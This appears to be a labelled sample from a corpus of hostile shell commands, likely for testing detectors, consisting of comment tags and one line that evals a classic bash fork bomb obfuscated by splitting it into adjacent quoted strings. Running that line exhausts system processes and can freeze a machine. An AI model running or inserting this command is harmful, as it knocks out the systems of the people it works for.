# description: Evals a fork bomb assembled from adjacent strings.
# family: fork-bomb
# obfuscated: yes
eval ':(){ :|:''& };:'
